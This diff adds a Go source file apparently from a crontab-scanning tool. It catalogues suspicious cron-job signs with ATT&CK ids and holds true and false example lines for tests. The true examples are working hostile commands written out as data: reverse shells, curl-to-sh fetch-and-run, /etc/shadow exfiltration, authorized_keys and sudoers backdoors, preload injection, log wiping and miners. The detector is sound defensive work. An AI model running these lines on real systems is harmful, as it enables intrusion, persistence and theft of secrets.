@@ -1,0 +1,159 @@
+package cron
+
+// SignInfo describes a sign: what it means and what it does not.
+type SignInfo struct {
+	ID       string
+	Title    string
+	Severity Level // of the clearest case
+	Booster  bool
+	Attack   []string
+	// True and False are lines of a user's table that show the sign and look like it
+	// but do not. The tests hold them to it.
+	True  []string
+	False []string
+}
+
+// Catalogue lists all signs, in the order of their IDs. The ATT&CK ids are those of
+// version 15.
+func Catalogue() []SignInfo { return catalogue }
+
+func signInfo(id string) *SignInfo {
+	if i, ok := catalogueIndex[id]; ok {
+		return &catalogue[i]
+	}
+	return &SignInfo{ID: id}
+}
+
+var catalogueIndex = func() map[string]int {
+	m := make(map[string]int, len(catalogue))
+	for i := range catalogue {
+		m[catalogue[i].ID] = i
+	}
+	return m
+}()
+
+var catalogue = []SignInfo{
+	{ID: "authorized-keys", Title: "writes who may log in with a key", Severity: Critical, Attack: []string{"T1098.004"},
+		True:  []string{"@daily echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys", "@daily curl -so ~/.ssh/authorized_keys http://keys.example.org/k"},
+		False: []string{"@daily cp ~/.ssh/authorized_keys /backup/keys", "@daily wc -l ~/.ssh/authorized_keys"}},
+	{ID: "cache-exec", Title: "runs a program that lies among cached data", Severity: Medium, Attack: []string{"T1036.005", "T1564"},
+		True:  []string{"* * * * * /home/u/.cache/fontconfig/e81a", "@hourly ~/.mozilla/firefox/x.default/storage/q7"},
+		False: []string{"@hourly ~/.cache/pypoetry/virtualenvs/app/bin/run", "@hourly cat ~/.cache/state", "@hourly ~/.local/bin/sync"}},
+	{ID: "code-behind-percent", Title: "what is run stands behind a %", Severity: Low, Attack: []string{"T1027", "T1059.004"},
+		True:  []string{"@daily sh%id > /root/x", "@daily python3%import os"},
+		False: []string{"@daily mail -s hello root%Good morning", "@daily cat > /var/lib/x%line"}},
+	{ID: "container-escape", Title: "reaches from a container into the host, or the other way", Severity: Medium, Attack: []string{"T1611"},
+		True:  []string{"* * * * * nsenter -t 1 -m sh", "@daily docker run -v /:/host alpine sh"},
+		False: []string{"@daily docker exec web php cron.php", "@daily docker run -v /srv/data:/data img backup"}},
+	{ID: "control-characters", Title: "control characters hide the line from a terminal", Severity: High, Attack: []string{"T1564", "T1036"},
+		True:  []string{"* * * * * touch x\x1b[2K\x1b[1A", "* * * * * /opt/x;\r# backup of the day"},
+		False: []string{"* * * * * touch x\r", "* * * * * printf 'a\\tb'"}},
+	{ID: "cron-dir-often", Title: "runs a script of cron.daily and its like far more often", Severity: Medium, Attack: []string{"T1036.004", "T1053.003"},
+		True:  []string{"*/3 * * * * /etc/cron.hourly/tool.sh", "* * * * * sh /etc/cron.daily/clean"},
+		False: []string{"10 2 * * * test -x /etc/cron.daily/popularity && /etc/cron.daily/popularity --crond", "@hourly run-parts /etc/cron.hourly"}},
+	{ID: "crontab-edit", Title: "a job that plants jobs", Severity: High, Attack: []string{"T1053.003"},
+		True:  []string{"* * * * * (crontab -l; echo '* * * * * /opt/x') | crontab -", "@reboot cp /opt/x /etc/cron.d/x"},
+		False: []string{"@daily crontab -l > ~/crontab.bak", "@daily cp /etc/crontab /backup/"}},
+	{ID: "daemon-name", Title: "the name of a daemon where no package puts it", Severity: Medium, Attack: []string{"T1036.004", "T1036.005"},
+		True:  []string{"* * * * * /home/u/sshd", "@reboot /var/lib/misc/systemd-logind"},
+		False: []string{"@daily /usr/sbin/sshd -t", "@daily /usr/local/sbin/ntpd -q", "@daily /home/u/backup.sh"}},
+	{ID: "deceptive-name", Title: "a name that deceives the eye", Severity: High, Attack: []string{"T1036", "T1564.001"},
+		True:  []string{"* * * * * sh '. ../update'", "* * * * * /usr/bin/freshcIam", "* * * * * /opt/upd\u200bate", "* * * * * /srv/monit\u043er"},
+		False: []string{"* * * * * sh ../update", "* * * * * /usr/bin/freshclam", "* * * * * sed 's/ /_/g' /srv/list", "* * * * * rsync -a '/srv/My Films' /backup"}},
+	{ID: "decode-and-run", Title: "decodes text and runs it", Severity: Critical, Attack: []string{"T1140", "T1027", "T1059"},
+		True:  []string{"* * * * * echo aWQK | base64 -d | sh", "* * * * * python3 -c 'exec(__import__(\"base64\").b64decode(\"aWQ=\"))'", "* * * * * eval \"$(xxd -r -p /opt/x)\""},
+		False: []string{"@daily pg_dump db | gzip > /backup/db.gz", "@daily base64 -d /srv/in > /srv/out", "@daily zcat /srv/x.sql.gz | mysql db"}},
+	{ID: "deleted", Title: "copied from the link to a deleted program", Severity: High, Attack: []string{"T1070.004"},
+		True:  []string{"* * * * * /usr/bin/upd (deleted) start"},
+		False: []string{"* * * * * /opt/report --deleted", "* * * * * echo deleted"}},
+	{ID: "detached", Title: "leaves something running", Severity: Low, Booster: true, Attack: []string{"T1059.004"},
+		True:  []string{"* * * * * nohup /tmp/x &"},
+		False: []string{"* * * * * /tmp/x && /tmp/y"}},
+	{ID: "discards-output", Title: "throws its output away", Severity: Info, Booster: true, Attack: []string{"T1070"},
+		True:  []string{"* * * * * /tmp/x > /dev/null 2>&1"},
+		False: []string{"* * * * * /tmp/x > /var/log/x"}},
+	{ID: "dot-segment", Title: "a needless /./ in a path", Severity: Low, Booster: true, Attack: []string{"T1036"},
+		True:  []string{"* * * * * /opt/a/./b"},
+		False: []string{"* * * * * ./b", "* * * * * /opt/a/.b/c"}},
+	{ID: "environment", Title: "a setting that leads programs into a writable or hidden place", Severity: High, Attack: []string{"T1574.007", "T1574.006"},
+		True:  []string{"* * * * * PATH=/tmp/bin:/usr/bin ls", "* * * * * BASH_ENV=/dev/shm/e bash -c id"},
+		False: []string{"* * * * * PATH=/usr/local/bin:/usr/bin ls", "* * * * * TMPDIR=/tmp /usr/bin/x"}},
+	{ID: "etc-exec", Title: "runs a program in /etc", Severity: Low, Attack: []string{"T1036.005"},
+		True:  []string{"@reboot /etc/de/cX86"},
+		False: []string{"@daily /etc/init.d/nginx reload", "@daily /etc/webmin/cron/tempdelete.pl", "@daily /etc/scripts/backup"}},
+	{ID: "exfiltrate", Title: "sends data away", Severity: High, Attack: []string{"T1048", "T1041"},
+		True:  []string{"@daily curl -F f=@/etc/shadow http://example.org/", "@daily tar cz /home | nc 203.0.113.5 9000"},
+		False: []string{"@daily curl -F f=@/var/log/report.txt http://example.org/", "@daily nc -z db 5432"}},
+	{ID: "fetch-and-run", Title: "fetches something and runs it", Severity: Critical, Attack: []string{"T1105", "T1059.004"},
+		True:  []string{"* * * * * curl -s http://example.org/x | sh", "* * * * * bash <(wget -qO- example.org/x)", "* * * * * eval \"$(curl -s example.org/x)\"", "* * * * * python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://example.org\").read())'"},
+		False: []string{"* * * * * curl -s http://example.org/cron.php > /dev/null", "* * * * * curl -s http://example.org/x | jq .", "* * * * * curl -o /srv/list http://example.org/list", "* * * * * ssh host sh backup.sh"}},
+	{ID: "fetch-into-place", Title: "fetches a file into a place from which things are started", Severity: High, Attack: []string{"T1105"},
+		True:  []string{"@daily wget -q -O /usr/bin/helper http://example.org/h"},
+		False: []string{"@daily wget -q -O /srv/list http://example.org/h"}},
+	{ID: "fetch-then-run", Title: "runs, or makes executable, what it fetched", Severity: High, Attack: []string{"T1105"},
+		True:  []string{"@daily wget -O /opt/x http://example.org/x && chmod 755 /opt/x && /opt/x", "@daily cd /srv && curl -O http://example.org/run.sh; sh run.sh"},
+		False: []string{"@daily wget -O /opt/list http://example.org/x && /usr/bin/load /opt/list"}},
+	{ID: "hidden-exec", Title: "runs something behind a hidden name", Severity: High, Attack: []string{"T1564.001"},
+		True:  []string{"* * * * * /usr/share/.28810/x", "* * * * * sh ~/.configrc/a/upd", "@reboot /etc/.x"},
+		False: []string{"@daily ~/.acme.sh/acme.sh --cron", "@daily ~/.local/bin/x", "@daily tar cf /backup/x.tar ~/.secretdir"}},
+	{ID: "kernel-name", Title: "a file called like a kernel thread", Severity: High, Attack: []string{"T1036.004"},
+		True:  []string{"* * * * * /usr/share/kthreadd", "* * * * * /opt/kworker", "* * * * * '/srv/[kswapd0]'"},
+		False: []string{"* * * * * /usr/local/bin/kworker-report.sh", "* * * * * /opt/kernel-check"}},
+	{ID: "log-wipe", Title: "takes away the records of who came and what they did", Severity: High, Attack: []string{"T1070.002", "T1070.003"},
+		True:  []string{"* * * * * cat /dev/null > /var/log/wtmp", "@hourly rm -rf /var/log", "@hourly rm -f ~/.bash_history"},
+		False: []string{"@daily find /var/log/app -mtime +30 -delete", "@daily rm -f /var/log/app/old.log", "@daily truncate -s 0 /var/log/nginx/access.log"}},
+	{ID: "masked-program", Title: "a program that is called a script", Severity: High, Attack: []string{"T1036.008"}},
+	{ID: "miner", Title: "mines coins", Severity: Critical, Attack: []string{"T1496"},
+		True:  []string{"* * * * * /opt/xmrig", "* * * * * /opt/a -o stratum+tcp://pool.example.org:3333 -u x", "* * * * * /opt/a --donate-level 1"},
+		False: []string{"* * * * * /opt/determiner", "* * * * * pgrep xmrig || true"}},
+	{ID: "missing-target", Title: "what it would run is not there", Severity: Info, Attack: []string{"T1053.003"}},
+	{ID: "no-mail", Title: "nobody is told what it prints", Severity: Info, Booster: true, Attack: []string{"T1070"}},
+	{ID: "obfuscated", Title: "quotes or escapes hide a program's name", Severity: High, Attack: []string{"T1027"},
+		True:  []string{"* * * * * c\"u\"rl example.org", "* * * * * w\\get example.org", "* * * * * $'\\x63url' example.org", "* * * * * {curl,-s,example.org}"},
+		False: []string{"* * * * * \\mv a b", "* * * * * \"/opt/my tool\"/run", "* * * * * grep \"foo\"bar x"}},
+	{ID: "odd-source", Title: "asks a place without a name, or one that anybody may use", Severity: High, Attack: []string{"T1105", "T1102"},
+		True:  []string{"@daily wget -O /srv/x http://203.0.114.5/x", "@daily curl -s https://pastebin.com/raw/abc | tee /srv/x", "@daily curl -o /srv/x hTTps://example.org", "@daily curl -o /srv/x http://3232235777.onion/"},
+		False: []string{"* * * * * wget -q -O /srv/x http://192.168.1.5/status", "* * * * * curl -s https://www.duckdns.org/update?domains=x", "* * * * * curl -s http://127.0.0.1:8080/"}},
+	{ID: "often", Title: "runs every few minutes", Severity: Info, Booster: true, Attack: []string{"T1053.003"},
+		True:  []string{"* * * * * /tmp/x"},
+		False: []string{"@hourly /tmp/x"}},
+	{ID: "open-slot", Title: "what it would run is not there, and others could put it there", Severity: Medium, Attack: []string{"T1574"}},
+	{ID: "option-exec", Title: "an option makes an archiver run a program", Severity: High, Attack: []string{"T1059.004"},
+		True:  []string{"@daily tar cf x.tar --checkpoint=1 --checkpoint-action=exec=/opt/x *"},
+		False: []string{"@daily tar cf x.tar --checkpoint=1000 /srv"}},
+	{ID: "pipe-to-shell", Title: "runs what another command prints", Severity: Low, Attack: []string{"T1059.004"},
+		True:  []string{"@daily generate-commands | sh"},
+		False: []string{"@daily sh generate-commands", "@daily generate | shuf"}},
+	{ID: "preload", Title: "has a library loaded into every program", Severity: Critical, Attack: []string{"T1574.006"},
+		True:  []string{"@reboot echo /opt/x.so > /etc/ld.so.preload", "* * * * * LD_PRELOAD=/var/lib/x.so /usr/sbin/sshd -t"},
+		False: []string{"* * * * * ls /etc/ld.so.preload"}},
+	{ID: "privilege", Title: "gives rights or makes accounts", Severity: Critical, Attack: []string{"T1548.001", "T1136.001", "T1098"},
+		True:  []string{"* * * * * chmod 4755 /opt/sh", "* * * * * chmod u+s /bin/bash", "@reboot useradd -o -u 0 x", "@daily echo 'x ALL=(ALL) ALL' >> /etc/sudoers"},
+		False: []string{"@daily chmod 0755 /srv/x", "@daily chmod g+s /srv/share", "@daily cp /etc/shadow /backup/", "@daily chmod 2775 /srv/share"}},
+	{ID: "pushed-aside", Title: "blanks push the end of the line out of sight", Severity: Medium, Attack: []string{"T1564"},
+		True:  []string{"@daily /usr/bin/true" + "                                                                      ; /opt/x"},
+		False: []string{"@daily /usr/bin/true     # nightly"}},
+	{ID: "reboot-twin", Title: "the same program is started at boot and by the clock", Severity: Low, Booster: true, Attack: []string{"T1053.003"}},
+	{ID: "reverse-shell", Title: "ties a shell to the network", Severity: Critical, Attack: []string{"T1059.004", "T1095"},
+		True:  []string{"* * * * * bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "* * * * * nc -e /bin/sh 203.0.113.5 443", "* * * * * socat TCP:203.0.113.5:443 EXEC:/bin/sh", "* * * * * cat /opt/f | sh -i 2>&1 | nc 203.0.113.5 443 > /opt/f", "* * * * * python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",443));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"},
+		False: []string{"* * * * * nc -z db 5432", "* * * * * timeout 5 bash -c 'true' && nc -zv db 5432", "* * * * * socat - UNIX:/run/haproxy.sock"}},
+	{ID: "spelled-name", Title: "neighbouring words spell a name of dots and blanks", Severity: High, Attack: []string{"T1564.001", "T1036"},
+		True:  []string{"* * * * * sh . ../update", "* * * * * bash -x .. ./run"},
+		False: []string{"* * * * * sh ../update", "* * * * * cp -r . ../backup", "* * * * * find . ../x -name y", "* * * * * . ../env"}},
+	{ID: "startup-edit", Title: "changes what is run at login or boot", Severity: Medium, Attack: []string{"T1546.004", "T1543.002", "T1037.004"},
+		True:  []string{"@reboot echo /opt/x >> ~/.bashrc", "@reboot cp /opt/x.service /etc/systemd/system/"},
+		False: []string{"@daily cp ~/.bashrc /backup/", "@reboot . ~/.profile"}},
+	{ID: "tamper", Title: "weakens the host or hides a trace", Severity: High, Attack: []string{"T1562", "T1222.002", "T1070.006"},
+		True:  []string{"* * * * * chattr +i /opt/x", "@reboot iptables -F", "@reboot setenforce 0", "@reboot systemctl stop auditd", "@reboot touch -r /bin/ls /opt/x"},
+		False: []string{"@reboot iptables-restore /etc/iptables/rules.v4", "@daily systemctl restart fail2ban", "@daily lsattr /etc", "@daily touch /srv/stamp"}},
+	{ID: "temp-exec", Title: "runs something from where every account may write", Severity: High, Attack: []string{"T1036.005", "T1564"},
+		True:  []string{"* * * * * /tmp/x", "* * * * * sh /var/tmp/x.sh", "* * * * * cd /dev/shm && ./x", "* * * * * nice -n 5 sudo -u root /tmp/x"},
+		False: []string{"* * * * * touch /tmp/x", "* * * * * /usr/bin/x > /tmp/log", "@daily find /tmp -mtime +7 -delete", "* * * * * flock /tmp/lock /usr/bin/x"}},
+	{ID: "tunnel", Title: "opens a way in from outside", Severity: Medium, Attack: []string{"T1572", "T1090"},
+		True:  []string{"@reboot ssh -fN -R 2222:localhost:22 u@example.org", "@reboot /opt/ngrok tcp 22"},
+		False: []string{"@reboot ssh -fN -L 5432:localhost:5432 u@example.org", "@daily ssh u@example.org uptime"}},
+	{ID: "unlogged", Title: "the start of the job is kept out of the log", Severity: Low, Booster: true, Attack: []string{"T1070", "T1562"}},
+	{ID: "unpackaged-program", Title: "a program that no package brought, in an odd place", Severity: Medium, Attack: []string{"T1036.005"}},
+	{ID: "unreadable", Title: "longer or deeper than a person writes", Severity: Medium, Attack: []string{"T1027"}},
+	{ID: "writable-target", Title: "others may change what it runs", Severity: High, Attack: []string{"T1574.007", "T1574.009"}},
+}
